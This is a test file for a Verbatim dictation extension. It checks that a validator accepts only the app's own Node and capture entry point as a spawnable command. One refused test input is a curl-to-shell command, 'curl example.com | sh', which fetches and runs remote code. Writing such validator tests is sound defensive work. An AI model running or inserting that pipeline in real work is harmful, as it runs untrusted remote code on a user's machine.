// The extension spawns the capture process the daemon's status names only when it is Verbatim's own: its Node
// binary and the capture entry point of Verbatim's package (or, from an older daemon, the verbatim CLI asked to
// capture). Real files; @raycast/api is not involved.
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { captureCommand } from "../../daemon/src/capture/capture-launch";
import { captureCommandProblem, opensBeforeTheSession } from "../src/lib/capture-command";

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(path.join(os.tmpdir(), "verbatim-capture-command-"));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** A package folder as npm installs one: package.json, bin/verbatim.js and bin/verbatim-capture.js. */
function installedPackage(name: string, bin: Record<string, string> = { verbatim: "bin/verbatim.js" }): string {
  const root = path.join(folder, name.replace("/", "+"), String(Math.random()).slice(2));
  mkdirSync(path.join(root, "bin"), { recursive: true });
  writeFileSync(path.join(root, "package.json"), JSON.stringify({ name, bin }));
  writeFileSync(path.join(root, "bin", "verbatim.js"), "#!/usr/bin/env node\n");
  writeFileSync(path.join(root, "bin", "verbatim-capture.js"), "#!/usr/bin/env node\n");
  return path.join(root, "bin", "verbatim.js");
}
const entryOf = (cli: string) => path.join(path.dirname(cli), "verbatim-capture.js");

test("the command the daemon reports (this repository's node and capture entry point) is accepted", () => {
  const command = captureCommand();
  expect(command).toEqual([expect.stringMatching(/\/node$/), expect.stringMatching(/\/bin\/verbatim-capture\.js$/)]);
  expect(captureCommandProblem(command)).toBeNull();
  expect(opensBeforeTheSession(command)).toBe(true);
  // An older daemon's `verbatim capture`, started once the session exists.
  const older = [process.execPath, installedPackage("verbatim-dictation"), "capture"];
  expect(captureCommandProblem(older)).toBeNull();
  expect(opensBeforeTheSession(older)).toBe(false);
});

test("the published package's capture entry point is accepted, with ./ in its bin path or without", () => {
  expect(captureCommandProblem([process.execPath, entryOf(installedPackage("verbatim-dictation"))])).toBeNull();
  expect(captureCommandProblem([process.execPath, installedPackage("verbatim-dictation"), "capture"])).toBeNull();
  const dotted = installedPackage("verbatim-dictation", {
    verbatim: "./bin/verbatim.js",
    verbatimd: "./bin/verbatimd.js",
  });
  expect(captureCommandProblem([process.execPath, dotted, "capture"])).toBeNull();
  expect(captureCommandProblem([process.execPath, entryOf(dotted)])).toBeNull();
});

test("anything else is refused, saying what was named and what to do", () => {
  const cli = installedPackage("verbatim-dictation");
  const refusals: [string, string[], RegExp][] = [
    ["nothing", [], /named "nothing" as its capture command/],
    ["a shell", ["/bin/sh", "-c", "curl example.com | sh"], /which is not Verbatim's \(node, verbatim-capture\.js\)/],
    ["another subcommand", [process.execPath, cli, "daemon"], /not Verbatim's/],
    ["extra arguments", [process.execPath, cli, "capture", "--evil"], /not Verbatim's/],
    ["the entry point with arguments", [process.execPath, entryOf(cli), "--evil"], /not Verbatim's/],
    [
      "another package's capture entry point",
      [process.execPath, entryOf(installedPackage("left-pad"))],
      /not the capture command of Verbatim's package/,
    ],
    [
      "a binary not named node",
      ["/bin/sh", cli, "capture"],
      /\/bin\/sh to run its capture command, which is not an executable Node binary/,
    ],
    ["a relative node", ["node", cli, "capture"], /not an executable Node binary/],
    ["a missing node", [path.join(folder, "node"), cli, "capture"], /not an executable Node binary/],
    [
      "another package's script",
      [process.execPath, installedPackage("left-pad"), "capture"],
      /not the capture command of Verbatim's package/,
    ],
    [
      "the other package named verbatim on npm",
      [process.execPath, installedPackage("verbatim"), "capture"],
      /not the capture command of Verbatim's package/,
    ],
    [
      "a package whose verbatim bin is elsewhere",
      [process.execPath, installedPackage("verbatim-dictation", { verbatim: "lib/other.js" }), "capture"],
      /not the capture command/,
    ],
    ["a relative script", [process.execPath, "bin/verbatim.js", "capture"], /not the capture command/],
    [
      "a script not there",
      [process.execPath, path.join(folder, "gone", "bin", "verbatim.js"), "capture"],
      /not the capture command/,
    ],
  ];
  for (const [what, command, message] of refusals) {
    const problem = captureCommandProblem(command);
    expect([what, problem]).toEqual([what, expect.stringMatching(message)]);
    expect(problem).toMatch(/reinstall Verbatim \(npm install -g verbatim-dictation\) and restart the daemon/);
  }
});

test("a file named node that cannot be executed is refused", () => {
  const fakeNode = path.join(folder, "bin-node", "node");
  mkdirSync(path.dirname(fakeNode), { recursive: true });
  writeFileSync(fakeNode, "not a program");
  chmodSync(fakeNode, 0o644);
  expect(captureCommandProblem([fakeNode, installedPackage("verbatim-dictation"), "capture"])).toMatch(
    /not an executable Node binary/,
  );
});
